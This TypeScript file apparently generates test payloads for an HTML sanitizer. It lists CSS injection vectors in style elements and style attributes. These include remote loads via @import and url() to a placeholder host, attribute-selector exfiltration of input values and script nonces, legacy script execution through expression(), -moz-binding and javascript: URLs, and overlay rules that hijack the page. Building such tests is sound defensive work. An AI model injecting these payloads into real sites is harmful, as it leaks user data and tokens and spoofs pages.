import type { Family } from "./payloads.ts";

const sheets = [
  '@import "ELSEWHERE/import.css";',
  "@import url(ELSEWHERE/import-url.css);",
  "@import 'ELSEWHERE/import-media.css' screen;",
  "@import url('data:text/css,*{background:url(ELSEWHERE/data)}');",
  "@import url(ELSEWHERE/layer.css) layer(x) supports(display:block);",
  "body{background:url(ELSEWHERE/background)}",
  "*{list-style-image:url(ELSEWHERE/list);cursor:url(ELSEWHERE/cursor),auto}",
  "@font-face{font-family:x;src:url(ELSEWHERE/font)}body{font-family:x}",
  "@font-face{font-family:y;src:url(ELSEWHERE/range);unicode-range:U+0041}*{font-family:y}",
  "input[value^=a]{background:url(ELSEWHERE/a)}input[value^=b]{background:url(ELSEWHERE/b)}",
  "input[name=commentId][value]{background:url(ELSEWHERE/has)}form:has(input){background:url(ELSEWHERE/has)}",
  "script{display:block;background:url(ELSEWHERE/nonce)}script[nonce^=a]{background:url(ELSEWHERE/a)}",
  "p::before{content:url(ELSEWHERE/content)}a::after{content:image-set('ELSEWHERE/set' 1x)}",
  "a:visited{color:red}a{border-image:url(ELSEWHERE/border)}",
  "div{width:expression(RUN);-moz-binding:url(ELSEWHERE/xbl#x);behavior:url(ELSEWHERE/htc)}",
  "@keyframes k{to{background:url(ELSEWHERE/keyframe)}}body{animation:k 1s infinite}",
  "@namespace url(ELSEWHERE/namespace);body{mask:url(ELSEWHERE/mask)}",
  "body{filter:url(ELSEWHERE/filter#x);offset-path:url(ELSEWHERE/path#x)}",
  "@property --x{syntax:'<url>';inherits:true;initial-value:url(ELSEWHERE/p)}body{background:var(--x)}",
  "html{display:none!important}",
  "main{position:fixed!important;inset:0!important;z-index:9}",
];

const wrappers = [
  "<style>CSS</style>",
  "<svg><style>CSS</style></svg>",
  "<style type=text/css media=all>CSS</style>",
  "<div><template shadowrootmode=open><style>CSS</style></template></div>",
];

const declarations = [
  "background:url(ELSEWHERE/attribute)",
  "background-image:url(&quot;ELSEWHERE/quoted&quot;)",
  "list-style:url(ELSEWHERE/list)",
  "border-image-source:url(ELSEWHERE/border)",
  "cursor:url(ELSEWHERE/cursor),auto",
  "content:url(ELSEWHERE/content)",
  "mask-image:url(ELSEWHERE/mask)",
  "shape-outside:url(ELSEWHERE/shape)",
  "background:image-set('ELSEWHERE/set' 1x)",
  "position:fixed;inset:0;z-index:9999;background:red",
  "--x:url(ELSEWHERE/x);background:var(--x)",
  "width:expression(RUN)",
  "behavior:url(ELSEWHERE/htc)",
  "-moz-binding:url(ELSEWHERE/xbl#x)",
  "background:url(javascript:RUN)",
];

const fill = (templates: readonly string[], word: string, values: readonly string[]) =>
  templates.flatMap((template) => values.map((value) => template.replaceAll(word, value)));

export const styles: Family[] = [
  { name: "a style element", html: fill(wrappers, "CSS", sheets) },
  {
    name: "a style attribute",
    html: fill(
      ['<div style="CSS">d</div>', '<svg><rect style="CSS" width=9 height=9 /></svg>'],
      "CSS",
      declarations,
    ),
  },
];
